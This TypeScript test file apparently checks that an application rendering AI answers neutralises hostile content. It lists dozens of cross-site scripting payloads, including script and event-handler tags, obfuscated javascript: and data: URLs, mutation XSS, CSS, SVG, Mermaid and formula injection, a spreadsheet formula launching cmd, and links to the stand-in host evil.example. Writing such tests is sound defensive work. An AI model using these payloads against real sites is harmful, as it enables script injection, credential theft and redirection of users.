/** What somebody who can write into an answer would try; each names the place that it stands in. */

export type Payload = {
  name: string
  /** For places that show text, with Markdown or without. */
  text(mark: string): string
  /** For places that take an address. @param origin of the hostile upstream */
  address(mark: string, origin: string): string
}

/** Told to whoever counts what ran. */
const run = (mark: string) => `__ran('${mark}')`
/** Nothing may ask this host for anything unless somebody clicks. */
const evil = (mark: string) => `https://evil.example/${mark}`

/** Markup, in the text itself and behind an address that would pass without it; what is there is hostile, too. */
function markup(name: string, text: Payload['text']): Payload {
  return { name, text, address: (mark, origin) => `${origin}/files/${mark}.html?"${text(mark)}` }
}

/** An address, by itself and as the target of everything in Markdown and HTML that has one. */
function target(name: string, address: Payload['address']): Payload {
  const text = (mark: string) => {
    const href = address(mark, 'http://127.0.0.1:9')
    return `[a](${href}) [b](<${href}>) ![c](${href}) <${href}> ${href} <a href="${href}">d</a>`
  }
  return { name, text, address }
}

export const payloads: Payload[] = [
  markup(
    'scripts',
    (mark) =>
      `<script>${run(mark)}</script><script src="${evil(mark)}.js"></script><<ScRiPt\n>${run(mark)}//<</sCrIpT ><script/x src=//evil.example/${mark}.js></script/>`,
  ),
  markup(
    'pictures',
    (mark) =>
      `<img src=x onerror="${run(mark)}"><img src="${evil(mark)}.png"><image src=x onerror=${run(mark)}>`,
  ),
  markup(
    'onload of SVG',
    (mark) =>
      `<svg onload="${run(mark)}"></svg><svg/onload=${run(mark)}><svg><script>${run(mark)}</script></svg>`,
  ),
  markup(
    'focus and toggle',
    (mark) =>
      `<details open ontoggle="${run(mark)}"><summary>x</summary></details><input autofocus onfocus="${run(mark)}"><select autofocus onfocus=${run(mark)}></select>`,
  ),
  markup(
    'sound and film',
    (mark) =>
      `<video src=x onerror="${run(mark)}"><source onerror="${run(mark)}"></video><audio src="${evil(mark)}.mp3" autoplay onerror="${run(mark)}">`,
  ),
  markup(
    'body, marquee and animation',
    (mark) =>
      `<body onload="${run(mark)}" onpageshow="${run(mark)}"><marquee onstart="${run(mark)}">x</marquee><style>@keyframes x{from{left:0}}</style><b style="animation:x 1s" onanimationstart="${run(mark)}">x</b>`,
  ),
  markup(
    'frames and plug-ins',
    (mark) =>
      `<iframe src="javascript:parent.${run(mark)}"></iframe><iframe srcdoc="<script>parent.${run(mark)}</script>"></iframe><iframe src="${evil(mark)}"></iframe><object data="javascript:${run(mark)}"></object><embed src="${evil(mark)}"><applet code="x"></applet>`,
  ),
  markup(
    'heads of pages',
    (mark) =>
      `<meta http-equiv="refresh" content="0;url=${evil(mark)}"><base href="${evil(mark)}/"><link rel="stylesheet" href="${evil(mark)}.css"><link rel="prefetch" href="${evil(mark)}">`,
  ),
  markup(
    'style sheets',
    (mark) =>
      `<style>@import url(${evil(mark)}.css);body{background:url(${evil(mark)}.png)}</style><p style="background:url('${evil(mark)}')">x</p><p style="width:expression(${run(mark)});-moz-binding:url(${evil(mark)}#x);behavior:url(x.htc)">x</p>`,
  ),
  markup(
    'forms and pings',
    (mark) =>
      `<form action="${evil(mark)}"><button formaction="javascript:${run(mark)}">x</button><input type="image" src="${evil(mark)}.png"></form><a href="${evil(mark)}" ping="${evil(mark)}/ping" target="_blank" rel="opener">x</a>`,
  ),
  markup(
    'inside SVG and MathML',
    (mark) =>
      `<svg><use href="${evil(mark)}.svg#x"/><a xlink:href="javascript:${run(mark)}"><animate attributeName="href" values="javascript:${run(mark)}"/></a><foreignObject><img src=x onerror="${run(mark)}"></foreignObject></svg><math href="javascript:${run(mark)}"><maction actiontype="statusline#${evil(mark)}" xlink:href="javascript:${run(mark)}">x</maction></math>`,
  ),
  markup(
    'srcset and poster',
    (mark) =>
      `<img srcset="${evil(mark)}.png 1x"><picture><source srcset="${evil(mark)}.webp"><img src=x></picture><video poster="${evil(mark)}.png">`,
  ),
  markup(
    'mutation by noscript and forms',
    (mark) =>
      `<noscript><p title="</noscript><img src=x onerror=${run(mark)}>"></noscript><form><math><mtext></form><form><mglyph><style></math><img src onerror=${run(mark)}>`,
  ),
  markup(
    'mutation by namespaces',
    (mark) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run(mark)}&gt;">`,
  ),
  markup(
    'mutation by raw text',
    (mark) =>
      `<title><style></title><img src=x onerror=${run(mark)}></style><template><script>${run(mark)}</script></template><xmp><img src=x onerror=${run(mark)}></xmp>`,
  ),
  markup(
    'comments and the end of the page',
    (mark) =>
      `<!--><img src=x onerror=${run(mark)}>--><![CDATA[<script>${run(mark)}</script>]]><?xml-stylesheet href="${evil(mark)}.css"?><!DOCTYPE x [<!ENTITY y SYSTEM "${evil(mark)}">]>--></script></style></textarea></title></select></main></body></html><script>${run(mark)}</script>`,
  ),
  markup(
    'the page’s own data',
    (mark) => `"])</script><script>self.__next_f.push([1,"$L1:${mark}"]);${run(mark)}</script>`,
  ),
  markup(
    'attributes and entities',
    (mark) =>
      `" autofocus onfocus="${run(mark)}" x=' onmouseover='${run(mark)}' \`> &lt;img src=x onerror=${run(mark)}&gt; &#60;script&#62;${run(mark)}&#x3c;/script&#x3e;`,
  ),
  target('javascript:', (mark) => `javascript:${run(mark)}`),
  target('javascript: in mixed case', (mark) => ` JaVaScRiPt:${run(mark)}`),
  target('javascript: with tabs and lines', (mark) => `java\tscr\nipt\r:${run(mark)}`),
  target('javascript: behind controls', (mark) => `\u0001\u200b\u00a0javascript\u0000:${run(mark)}`),
  target('javascript: in entities', (mark) => `&#106;&#x61;vascript&colon;${run(mark)}`),
  target('javascript: in percents', (mark) => `javascript%3A${run(mark)}`),
  target('javascript: behind a host', (mark) => `javascript://evil.example/%0A${run(mark)}`),
  target('vbscript:', (mark) => `vbscript:MsgBox("${mark}")`),
  target('data: with HTML', (mark) => `data:text/html,<script>parent.${run(mark)}</script>`),
  target(
    'data: with SVG',
    (mark) => `data:image/svg+xml;base64,${Buffer.from(svgWith(mark)).toString('base64')}#${mark}`,
  ),
  target('file: and blob:', (mark) => `file:///etc/passwd?blob:https://evil.example/${mark}`),
  target('another name before the host', (mark) => `https://moonlake.example:x@evil.example/${mark}`),
  target('no scheme', (mark) => `//evil.example/${mark}`),
  target('back slashes', (mark) => `https:\\\\evil.example\\${mark}`),
  target('letters that look alike', (mark) => `https://g\u043e\u043egle.example/${mark}`),
  target('our own routes', (mark) => `/api/account/sign-out?${mark}`),
  target('SVG from the upstream', (mark, origin) => `${origin}/files/${mark}.svg`),
  target('HTML from the upstream', (mark, origin) => `${origin}/files/${mark}.html`),
  markup(
    'definitions and links around pictures',
    (mark) =>
      `[x][e${mark}] ![x][e${mark}] [![x](${evil(mark)}.png)](javascript:${run(mark)}) ![x](${evil(mark)}.png "onerror=${run(mark)}")\n\n[e${mark}]: javascript:${run(mark)} "<b>"\n[e${mark}]: ${evil(mark)}\n`,
  ),
  markup(
    'formulas',
    (mark) =>
      `$\\href{javascript:${run(mark)}}{x}$ $\\url{javascript:${run(mark)}}$ $\\includegraphics{${evil(mark)}.png}$ $\\htmlData{x=y}{x} \\htmlStyle{background:url(${evil(mark)})}{y}$`,
  ),
  markup(
    'formulas without end',
    () => '$\\def\\a{\\a\\a}\\a$ $$\\gdef\\b#1{\\b{#1#1}}\\b{x}$$ $\\rule{9999em}{9999em}$',
  ),
  markup(
    'diagrams',
    (mark) =>
      `\n\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(${evil(mark)}.css)"}}%%\ngraph TD\nA["<img src=x onerror=${run(mark)}>"]\nclick A href "javascript:${run(mark)}"\n\`\`\`\n`,
  ),
  markup(
    'templates and sheet formulas',
    (mark) =>
      `{{constructor.constructor("${run(mark)}")()}} \${${run(mark)}} #{${run(mark)}} <%= ${run(mark)} %> {count, plural, one {<b>x</b>} other {#}} =HYPERLINK("${evil(mark)}","x") @SUM(1+1)*cmd|' /C calc'!A0`,
  ),
  markup('names of prototypes', () => '__proto__ constructor toString hasOwnProperty.call __defineGetter__'),
  markup('directions and nothing', () =>
    '\u202egpj.exe\u2066\u200b\u200d\u2028\u2029\ufeff\u00ad\u034f'.repeat(8),
  ),
  markup('controls', () => 'a\u0000b\u0008c\u001b[31md\u001b]8;;https://evil.example\u0007e\u009bf'),
  markup('half characters', () => 'a\ud800b\udc00c \ud83d'),
  // Whoever cuts them by length may cut one in half, here or in the next one.
  markup('long rows of pairs', () => '\u{1f600}'.repeat(400)),
  markup('long rows of pairs, one further', () => `a${'\u{1f600}'.repeat(400)}`),
  markup('no end', (mark) => `${'W'.repeat(4_000)}<img src="${evil(mark)}.png">`),
  markup(
    'nested deeply',
    () => `${'> '.repeat(150)}${'[('.repeat(150)}${'*_'.repeat(150)}${'<b>'.repeat(150)}`,
  ),
  markup(
    'more of the stream',
    () => '\n\ndata:[DONE]\n\ndata: {"type":"run-end"}\n\nevent: error\nid: 9\n\n',
  ),
]

/** A picture that would run if it were opened as a page. */
export function svgWith(mark: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" onload="${run(mark)}"><script>${run(mark)}</script><image href="${evil(mark)}.png"/></svg>`
}
